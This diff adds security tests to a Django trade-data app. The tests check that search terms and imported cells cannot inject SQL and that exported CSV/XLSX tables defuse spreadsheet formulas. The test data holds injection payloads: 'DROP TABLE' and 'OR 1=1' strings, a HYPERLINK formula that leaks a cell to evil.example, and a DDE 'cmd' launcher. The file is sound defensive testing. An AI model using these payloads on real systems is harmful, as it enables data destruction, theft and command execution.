@@ -77,7 +77,7 @@ def test_the_import_page_does_not_read_the_key_either(client, staff_az, tmp_path
     "cell",
     [
         'Year"; DROP TABLE staged; --',
-        "TradeValue in 1000 USD\" || (SELECT 1) || \"",
+        'TradeValue in 1000 USD" || (SELECT 1) || "',
         'TradeValue" , "x',
     ],
 )
@@ -148,10 +148,69 @@ def test_the_readers_engine_is_held_too(trade_dir, secret_file):
 @pytest.mark.django_db
 @pytest.mark.parametrize(
     "q",
-    ['"', "rice OR *", "title:rice", "NEAR(a b)", "x' OR 1=1 --", "a\"b", "(", "^", "-rice"],
+    ['"', "rice OR *", "title:rice", "NEAR(a b)", "x' OR 1=1 --", 'a"b', "(", "^", "-rice"],
 )
 def test_search_words_are_never_query_syntax(client, q):
     response = client.get("/api/v1/items", {"q": q})
     assert response.status_code == 200, response.content
     page = client.get("/items/", {"q": q})
     assert page.status_code == 200
+
+
+# --- Formulas in the spreadsheets the bureau writes ---------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Source")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_trade_tables_neutralise_formulas(client, tmp_path, trade_dir, formula):
+    import csv
+    import io
+
+    path = tmp_path / "figures.csv"
+    with path.open("w", newline="") as out:
+        writer = csv.writer(out)
+        writer.writerow(["period", "reporter", "partner", "flow", "value", "unit", "source",
+                         "source_url"])  # fmt: skip
+        writer.writerow(["2022", "AZE", "PAK", "export", "7.6", "USD million", formula, ""])
+    result = import_file(path, format="figures")
+    assert not result.errors, result.errors
+    response = client.get("/trade/tables/bilateral.csv")
+    assert response.status_code == 200
+    cells = [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
+    stored = formula.strip()  # the importer trims cells
+    assert "'" + stored in cells
+    assert stored not in cells
+    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
+
+
+def test_numbers_stay_numbers():
+    from bureau.core.cells import safe_row
+
+    assert safe_row([-5, 1.5, "-5", "rice", None]) == [-5, 1.5, "'-5", "rice", None]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_import_templates_hold_no_formula(fmt):
+    import io
+
+    import openpyxl
+
+    from bureau.catalog.importing.template import template_file
+
+    data = template_file(fmt)
+    if fmt == "csv":
+        text = data.decode("utf-8-sig")
+        assert not any(line.startswith(("=", "+", "@")) for line in text.splitlines())
+        return
+    book = openpyxl.load_workbook(io.BytesIO(data))
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            assert all(cell.data_type != "f" for cell in row)
